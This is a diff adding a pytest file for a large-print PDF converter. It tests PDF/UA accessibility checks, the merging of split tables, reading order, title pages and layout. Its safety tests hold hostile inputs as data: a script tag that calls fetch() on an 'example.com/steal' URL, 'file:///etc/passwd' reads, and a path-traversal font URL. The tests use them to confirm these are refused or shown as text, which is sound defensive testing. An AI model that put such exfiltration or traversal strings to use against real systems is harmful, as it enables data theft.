@@ -1,0 +1,230 @@
+"""The large-print PDF: PDF/UA-1 (veraPDF and our own structure checks), words, layout, safety."""
+
+from __future__ import annotations
+
+import re
+import subprocess
+from pathlib import Path
+
+import pikepdf
+import pytest
+from conftest import FIXTURES, SAMPLE, sample_and_corpus_params
+from lxml import etree
+from test_xhtml import in_order, rendered_words
+
+from converter import Options, api, profiles
+from converter import tree as canonical
+from converter.check import CheckResult, check_file
+from converter.check import pdf as pdf_check
+from converter.words import words
+from converter.writers import pdf as pdf_writer
+
+PROFILES = profiles.profile_names()
+SCHEMES = profiles.colour_names()
+LONG_TABLE = FIXTURES / "xml" / "pdf-long-table.xml"
+HOSTILE = FIXTURES / "xml" / "pdf-hostile-text.xml"
+EVERY_ELEMENT = FIXTURES / "xml" / "xhtml-every-element.xml"
+
+# The sample at every profile (default colours) and at every colour scheme (default
+# profile), plus the measure at its widest: clear print on A3.  The full matrix is bench/.
+SAMPLE_OPTIONS = [
+    *(pytest.param(Options(profile=name), id=name) for name in PROFILES),
+    *(pytest.param(Options(colours=name), id=name) for name in SCHEMES if name != "black-on-white"),
+    pytest.param(Options(profile="clear-14", paper="A3"), id="clear-14-A3"),
+]
+
+
+def failures(results: list[CheckResult]) -> list[str]:
+    return [f"{r.name}: {r.status} {list(r.details[:5])}" for r in results if r.status != "pass"]
+
+
+def text_of(path: Path, *args: str) -> str:
+    return subprocess.run(
+        ["pdftotext", "-enc", "UTF-8", *args, str(path), "-"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+
+
+# -- validation ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("source", sample_and_corpus_params())
+def test_default_profile_passes_every_check(render, source: Path) -> None:
+    path = render(source, "pdf")
+    results = check_file(path, Options()).results
+    assert {r.name for r in results} >= {"verapdf-pdf-ua-1", "pdf-tables-whole", "pdf-artifacts"}
+    assert failures(results) == []
+
+
+@pytest.mark.parametrize("options", SAMPLE_OPTIONS)
+def test_sample_at_every_profile_and_scheme_passes_every_check(render, options: Options) -> None:
+    results = check_file(render(SAMPLE, "pdf", options), options).results
+    assert failures(results) == []
+
+
+def test_untagged_pdf_fails_verapdf_and_our_checks(tmp_path: Path) -> None:
+    """Negative control: the same document rendered without PDF/UA tagging."""
+    from weasyprint import HTML
+
+    root = api.parse(EVERY_ELEMENT).getroot()
+    html_text, _ = pdf_writer.build_html(root, profiles.print_profile(Options()))
+    path = tmp_path / "untagged.pdf"
+    path.write_bytes(HTML(string=html_text).write_pdf())
+    results = {r.name: r for r in check_file(path, Options()).results}
+    assert results["verapdf-pdf-ua-1"].status == "fail"
+    assert results["pdf-tagged"].status == "fail"
+    assert results["pdf-language"].status == "fail"
+
+
+def test_body_text_at_the_wrong_size_fails(render) -> None:
+    """The text-size check measures: an 18 pt PDF does not pass as 24 pt."""
+    path = render(SAMPLE, "pdf")
+    results = {r.name: r for r in check_file(path, Options(profile="large-24")).results}
+    assert results["pdf-text-size"].status == "fail"
+    assert results["pdf-artifacts"].status == "fail"  # page numbers are not at 24 pt either
+
+
+# -- tables split over pages (WeasyPrint #2903) ----------------------------------------------
+
+
+def test_a_table_too_long_for_a_page_is_one_table(render) -> None:
+    path = render(LONG_TABLE, "pdf")
+    assert failures(check_file(path, Options()).results) == []
+    with pikepdf.open(path) as pdf:
+        tables = [e for e in pdf_check.struct_elements(pdf) if e.get("/S") == "/Table"]
+        assert len(tables) == 1
+        rows = [e for e in pdf_check._descendants(tables[0]) if e.get("/S") == "/TR"]
+        assert len(rows) == 1 + 24  # one header row (the repeats are artifacts) and 24 rows
+        pages = {e.Pg.objgen for e in pdf_check._descendants(tables[0]) if "/Pg" in e}
+        assert len(pages) >= 2  # it really did run over a page break
+
+
+def test_without_the_merge_the_split_table_is_found() -> None:
+    """Control: WeasyPrint's own output has one Table per page, and our check says so."""
+    root = api.parse(LONG_TABLE).getroot()
+    rendering = pdf_writer.render(root, Options(), merge_tables=False)
+    assert len({page for table_id, page in rendering.table_fragments if table_id == "areas"}) >= 2
+    with pikepdf.open(__import__("io").BytesIO(rendering.pdf)) as pdf:
+        findings = pdf_check.split_table_findings(pdf, pdf_check.struct_elements(pdf))
+    assert findings and "second Table" in findings[0]
+
+
+# -- content ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("source", sample_and_corpus_params())
+def test_every_word_in_reading_order(render, source: Path) -> None:
+    root = api.parse(source).getroot()
+    found = words(text_of(render(source, "pdf")))
+    assert in_order(rendered_words(root), found) == []
+
+
+def test_title_page_and_contents(render) -> None:
+    root = api.parse(SAMPLE).getroot()
+    path = render(SAMPLE, "pdf")
+    first = " ".join(text_of(path, "-f", "1", "-l", "1").split())
+    title = " ".join(root.findtext("meta/title").split())
+    assert title in first
+    assert f"This is a large print version (18 point) of {title}" in first
+    offer = root.find("back/section[@role='alternative-formats']")
+    if offer is not None:
+        assert " ".join(canonical.text_content(offer.find("p")).split())[:60] in first
+    second = " ".join(text_of(path, "-f", "2", "-l", "2").split())
+    assert "Contents" in second and re.search(r", page \d+", second)
+    with pikepdf.open(path) as pdf, pdf.open_outline() as outline:
+        titles = [item.title for item in outline.root]
+    headings = [
+        " ".join(canonical.text_content(h).split()) for h in root.iterfind("body/section/heading")
+    ]
+    assert titles[0] == title
+    assert all(any(h in t for t in titles) for h in headings[:5]) or headings == []
+
+
+@pytest.mark.parametrize(
+    ("options", "label"),
+    [
+        (Options(profile="clear-14"), "clear print version (14 point)"),
+        (Options(profile="giant-32"), "giant print version (32 point)"),
+    ],
+)
+def test_title_page_names_the_print_size(render, options: Options, label: str) -> None:
+    first = " ".join(text_of(render(SAMPLE, "pdf", options), "-f", "1", "-l", "1").split())
+    assert f"This is a {label} of" in first
+
+
+# -- layout -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "options", [pytest.param(Options(), id="large-18"), *SAMPLE_OPTIONS[:1], SAMPLE_OPTIONS[-1]]
+)
+def test_layout(render, render_cache: Path, options: Options) -> None:
+    """Nothing outside the page; no line longer than the profile's; pages as PNG artifacts."""
+    path = render(SAMPLE, "pdf", options)
+    profile = profiles.print_profile(options)
+    artifacts = render_cache.parent / "artifacts" / f"pdf-{profile.name}-{profile.paper}"
+    artifacts.mkdir(parents=True, exist_ok=True)
+    subprocess.run(
+        ["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "4", str(path), str(artifacts / "page")],
+        check=True,
+    )
+    assert len(list(artifacts.glob("page-*.png"))) == 4
+    layout = etree.fromstring(text_of(path, "-bbox-layout").encode())
+    namespace = {"h": "http://www.w3.org/1999/xhtml"}
+    longest = 0
+    for page in layout.iterfind(".//h:page", namespace):
+        width, height = float(page.get("width")), float(page.get("height"))
+        for word in page.iterfind(".//h:word", namespace):
+            box = [float(word.get(k)) for k in ("xMin", "yMin", "xMax", "yMax")]
+            assert box[0] >= 0 and box[1] >= 0 and box[2] <= width and box[3] <= height, word.text
+        for line in page.iterfind(".//h:line", namespace):
+            text = " ".join(w.text or "" for w in line.iterfind("h:word", namespace))
+            longest = max(longest, len(text))
+    assert 20 < longest <= profile.line_length
+
+
+# -- safety -------------------------------------------------------------------------------
+
+
+def test_markup_and_urls_in_the_text_are_text_and_nothing_is_fetched() -> None:
+    fetcher = pdf_writer.resource_fetcher_class()()
+    root = api.parse(HOSTILE).getroot()
+    rendering = pdf_writer.render(root, Options(), fetcher=fetcher)
+    assert sorted(set(fetcher.requested)) == sorted(pdf_writer.FONT_URLS.values())
+    assert fetcher.refused == []
+    with pikepdf.open(__import__("io").BytesIO(rendering.pdf)) as pdf:
+        text = "".join(
+            subprocess.run(
+                ["pdftotext", "-enc", "UTF-8", "-", "-"],
+                input=rendering.pdf,
+                capture_output=True,
+                check=True,
+            ).stdout.decode()
+        )
+        annotations = [a for page in pdf.pages for a in page.get("/Annots", [])]
+    flat = " ".join(text.split())
+    assert '<script>fetch("http://example.com/steal")</script>' in flat
+    assert "<img src=http://example.com/tracker.png" in flat
+    assert "url(file:///etc/hostname)" in flat
+    uris = {str(a.A.URI) for a in annotations if "/A" in a and "/URI" in a.A}
+    assert "http://example.com/page" in uris
+    assert not any(uri.startswith(("file:", "javascript:")) for uri in uris)
+
+
+def test_the_fetcher_refuses_everything_but_our_fonts() -> None:
+    fetcher = pdf_writer.resource_fetcher_class()()
+    for url in (
+        "file:///etc/passwd",
+        "http://example.com/x.css",
+        "data:text/css,body{}",
+        "converter-resource:font/../../etc/passwd",
+    ):
+        with pytest.raises(ValueError, match="refused"):
+            fetcher.fetch(url)
+    assert fetcher.fetch(pdf_writer.FONT_URLS["bold"]).read()[:4] == b"\x00\x01\x00\x00"
+
+
+def test_one_font_configuration_per_process() -> None:
+    assert pdf_writer.font_configuration() is pdf_writer.font_configuration()
